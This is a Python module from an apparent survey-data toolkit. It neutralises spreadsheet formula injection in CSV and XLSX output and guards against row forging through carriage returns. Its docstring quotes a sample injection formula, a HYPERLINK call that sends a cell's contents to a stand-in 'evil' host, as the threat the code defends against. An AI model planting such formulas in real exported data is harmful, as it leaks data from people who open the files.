"""Neutralising spreadsheet formulas in text the toolkit writes (CSV and XLSX).

A respondent can type ``=HYPERLINK("http://evil/?"&A1, "click")`` into an open
answer; written as is into a CSV or an XLSX cell, a spreadsheet evaluates it
when the analyst opens the file ("CSV injection", OWASP). Following OWASP's
recommendation, every text cell (and header) that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading apostrophe,
so the spreadsheet shows it as text. Text that is a plain number (``-5``,
``+3.2``) cannot be evaluated as a formula and is left alone; numbers stored as
numbers are never touched.

Every writer of the toolkit calls :func:`escape_frame` / :func:`escape_text`.
For trusted data, turn escaping off for a block with
``with survey_kit.formula_escaping(False): ...`` (the CLI: ``--no-escape-formulas``).

Reference: OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection

Example
-------
>>> escape_text('=HYPERLINK("http://x/?"&A1)')
'\\'=HYPERLINK("http://x/?"&A1)'
>>> escape_text("-5"), escape_text("-rm"), escape_text("ok")
('-5', "'-rm", 'ok')
>>> import pandas as pd
>>> escape_frame(pd.DataFrame({"=a": ["@x", 3]}))
   '=a
0  '@x
1    3
>>> with formula_escaping(False):
...     escape_text("=1+1")
'=1+1'
"""

from __future__ import annotations

import contextlib
import contextvars
import re
from collections.abc import Iterator
from typing import Any

#: first characters that make a spreadsheet read a cell as a formula
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: the most characters an XLSX cell holds (Excel's limit)
XLSX_MAX_TEXT = 32_767
#: control characters an XLSX cell cannot hold (as openpyxl's ILLEGAL_CHARACTERS_RE)
XLSX_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


_ENABLED: contextvars.ContextVar[bool] = contextvars.ContextVar("survey_kit_escaping",
                                                                default=True)


@contextlib.contextmanager
def formula_escaping(enabled: bool = True) -> Iterator[None]:
    """Turn the escaping of formula-leading text on or off within a block.

    Example
    -------
    >>> import survey_kit as sk
    >>> with sk.formula_escaping(False):     # trusted data: write text as it is
    ...     pass
    """
    token = _ENABLED.set(bool(enabled))
    try:
        yield
    finally:
        _ENABLED.reset(token)


def needs_escape(value: Any) -> bool:
    """True for text a spreadsheet would evaluate as a formula (while escaping is on)."""
    return (_ENABLED.get() and isinstance(value, str) and value.startswith(TRIGGERS)
            and not _NUMBER.fullmatch(value))


def escape_text(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is formula-leading text."""
    return "'" + value if needs_escape(value) else value


def escape_frame(frame):
    """A copy of ``frame`` whose text cells, column names and index labels are escaped.

    Only object and string columns are scanned (vectorised); a frame without
    formula-leading text is returned as is (not copied).
    """
    import pandas as pd

    out = frame
    if not _ENABLED.get():
        return out
    for j in range(frame.shape[1]):           # by position: column names may repeat
        series = frame.iloc[:, j]
        if not (series.dtype == object or isinstance(series.dtype, pd.StringDtype)
                or isinstance(series.dtype, pd.CategoricalDtype)):
            continue
        if isinstance(series.dtype, pd.CategoricalDtype):
            cats = series.cat.categories
            if any(needs_escape(c) for c in cats):
                if out is frame:
                    out = frame.copy()
                out.isetitem(j, series.cat.rename_categories([escape_text(c) for c in cats]))
            continue
        text = series.astype("string")
        mask = (text.str.match(r"[=+\-@\t\r]", na=False)
                & ~text.str.fullmatch(_NUMBER.pattern, na=False)
                & series.map(lambda v: isinstance(v, str)).astype(bool))
        if mask.any():
            if out is frame:
                out = frame.copy()
            fixed = series.astype(object).copy()
            fixed[mask] = "'" + text[mask].astype(object)
            out.isetitem(j, fixed)
    columns, index = _escaped_labels(frame.columns), _escaped_labels(frame.index)
    if columns is not None or index is not None:
        if out is frame:
            out = frame.copy()
        if columns is not None:
            out.columns = columns
        if index is not None:
            out.index = index
    return out


def _escaped_labels(labels):
    """``labels`` (an Index or MultiIndex) with formula-leading text escaped; None when
    nothing needs it. Only text levels are scanned."""
    import pandas as pd

    def text(index) -> bool:
        return index.dtype == object or isinstance(index.dtype, pd.StringDtype)

    if isinstance(labels, pd.MultiIndex):
        if not any(needs_escape(v) for level in labels.levels if text(level) for v in level):
            return None
        return pd.MultiIndex.from_tuples([tuple(escape_text(v) for v in t) for t in labels],
                                         names=labels.names)
    if not (text(labels) and any(needs_escape(v) for v in labels)):
        return None
    return pd.Index([escape_text(v) for v in labels], name=labels.name)


def csv_quoting(frame, extra_text=()) -> int:
    """The ``csv`` quoting mode that keeps every row of ``frame`` one row in a spreadsheet.

    Python's csv writer quotes a field holding a line feed but not one holding a
    lone carriage return, which readers (and spreadsheets) take for the end of
    the row -- a respondent could start a new, forged row that way. When a
    column name, a text cell, a category or one of ``extra_text`` (e.g. label
    rows) holds a carriage return, every field is quoted (``csv.QUOTE_ALL``);
    otherwise ``csv.QUOTE_MINIMAL``.

    Example
    -------
    >>> import csv, pandas as pd
    >>> csv_quoting(pd.DataFrame({"a": ["x\\ry"]})) == csv.QUOTE_ALL
    True
    """
    import csv

    import pandas as pd

    def has_cr(values) -> bool:
        return any(isinstance(v, str) and "\r" in v for v in values)

    if has_cr(map(str, frame.columns)) or has_cr(extra_text):
        return csv.QUOTE_ALL
    for j in range(frame.shape[1]):
        s = frame.iloc[:, j]
        if isinstance(s.dtype, pd.CategoricalDtype):
            if has_cr(s.cat.categories):
                return csv.QUOTE_ALL
        elif s.dtype == object or isinstance(s.dtype, pd.StringDtype):
            if s.map(lambda v: isinstance(v, str) and "\r" in v).any():
                return csv.QUOTE_ALL
    return csv.QUOTE_MINIMAL
